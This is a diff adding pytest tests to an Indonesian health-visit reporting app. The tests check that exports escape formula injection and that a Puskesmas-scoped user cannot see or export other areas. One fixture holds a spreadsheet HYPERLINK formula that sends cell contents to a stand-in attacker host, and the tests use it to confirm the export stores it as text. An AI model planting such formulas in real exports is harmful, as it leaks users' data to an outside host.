@@ -5,9 +5,11 @@ and stores nothing (test_import_bad_input.assert_rejected); what was fine is pin
 from __future__ import annotations
 
 import csv
+import io
 
+import openpyxl
 import pytest
-from sqlalchemy import select
+from sqlalchemy import select, update
 
 import callbacks.kunjungan as cb
 from data_access import schema
@@ -123,3 +125,97 @@ def test_markup_and_formulas_in_a_place_name_are_stored_as_typed_and_shown_as_te
     figures = str([out[k] for k in ("trend", "umur", "jenis_kelamin", "disabilitas")])
     assert not any(name in figures for name in MARKUP)
     assert "onerror" in text_of(out["warnings"])
+
+
+# --- the export ----------------------------------------------------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
+
+
+@pytest.fixture
+def run_cli(loaded, monkeypatch, capsys):
+    """`python cli.py …` on the loaded database with the sample visits (as test_export_kunjungan)."""
+    import cli
+    from data_access.db import dispose_engines
+
+    sample_kunjungan.load(loaded)
+    monkeypatch.setenv("DATABASE_URL", loaded.url.render_as_string(hide_password=False))
+    dispose_engines()
+
+    def run(*argv):
+        status = cli.main(list(argv))
+        out = capsys.readouterr()
+        return status, out.out, out.err
+
+    yield run
+    dispose_engines()
+
+
+def test_an_area_named_like_a_formula_is_exported_as_text(run_cli, loaded, tmp_path):
+    with loaded.begin() as conn:
+        conn.execute(update(schema.puskesmas).where(schema.puskesmas.c.kode == "P01").values(nama=EVIL))
+    for suffix in ("csv", "xlsx"):
+        out = tmp_path / f"k.{suffix}"
+        status, _, err = run_cli("export", "kunjungan", "--tahun", "2025", "--bulan", "1", "--tingkat", "puskesmas",
+                                 "--out", str(out))
+        assert status == 0, err
+        if suffix == "csv":
+            rows = {r["kode"]: r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))}
+            assert rows["P01"]["nama"] == "'" + EVIL and rows["P01"]["jumlah"] == "100"
+        else:
+            sheet = openpyxl.load_workbook(out)["KUNJUNGAN"]
+            cell = next(r for r in sheet.iter_rows() if r[0].value == "P01")[1]
+            assert cell.data_type == "s" and cell.value in (EVIL, "'" + EVIL)
+
+
+@pytest.mark.parametrize("tingkat, wilayah", [("puskesmas", "P02"), ("puskesmas", "p02"), ("desa", "99.01"),
+                                              ("desa", "99"), ("desa", "9901022001"), ("desa", "99.02")])
+def test_a_puskesmas_user_exporting_another_area_is_refused_in_the_filters_words(run_cli, loaded, tmp_path,
+                                                                                  tingkat, wilayah):
+    from data_access.users import add_user
+    from domain.access import Role
+    from domain.codes import Level
+    from domain.wilayah import Scope
+
+    with loaded.begin() as conn:
+        add_user(conn, "pkm-a", "kata-sandi-panjang", Role.PEMBACA, Scope(Level.PUSKESMAS, "P01"))
+    out = tmp_path / "x.csv"
+    status, _, err = run_cli("export", "kunjungan", "--tahun", "2025", "--tingkat", tingkat, "--wilayah", wilayah,
+                             "--pengguna", "pkm-a", "--out", str(out))
+    assert status == 1 and "tidak ditemukan di wilayah yang boleh Anda lihat" in err, err
+    assert not any(n in err for n in ("Pkm B", "Desa B1", "Kab Satu", "Kab Dua", "Prov Uji"))
+    assert not out.exists()
+
+
+# --- the section's callback, as a Puskesmas user ------------------------------------------------
+
+OTHERS = ("Pkm B", "Desa B1", "Kab Satu", "Kab Dua", "Prov Uji", "Posyandu B1", "Pkm C")
+
+
+@pytest.mark.parametrize("state", [
+    {"level": "puskesmas", "kode": "P01", "tahun": 2025, "bulan": 99},
+    {"level": "puskesmas", "kode": "P01", "tahun": -2025, "bulan": -1},
+    {"level": "puskesmas", "kode": "P01", "tahun": 2**70, "bulan": 2**70},
+    {"level": "puskesmas", "kode": "P01", "tahun": "2025", "bulan": 1.5},
+    {"level": ["puskesmas"], "kode": {"a": {"b": ["P02"]}}, "tahun": [2025], "bulan": {"x": 1}},
+    {"level": "puskesmas", "kode": "p02", "tahun": 2025, "bulan": 1},
+    {"level": "puskesmas", "kode": " P02 ", "tahun": 2025, "bulan": 1},
+    {"level": "desa", "kode": "9901022001", "tahun": 2025, "bulan": 1},
+    {"level": "kabupaten", "kode": "99.02", "tahun": 2025, "bulan": 1},
+])
+def test_a_puskesmas_user_gets_their_own_view_or_the_filters_refusal(use_db, loaded, state):
+    from callbacks.common import acting_as
+    from domain.access import Role, Viewer
+    from domain.codes import Level
+    from domain.wilayah import Scope
+
+    sample_kunjungan.load(loaded)
+    section = use_db(cb)
+    with acting_as(Viewer("pkm-a", Role.PEMBACA, Scope(Level.PUSKESMAS, "P01"))):
+        out = section.show_kunjungan(state)
+    shown = str(out)
+    assert not any(name in shown for name in OTHERS), shown
+    if out["content"] is None:  # a view: their own Puskesmas, the latest month when the month is nonsense
+        assert out["period"].startswith("Pkm A · Februari 2025")
+    else:
+        assert "tidak ditemukan di wilayah yang boleh Anda lihat" in text_of(out["empty"])
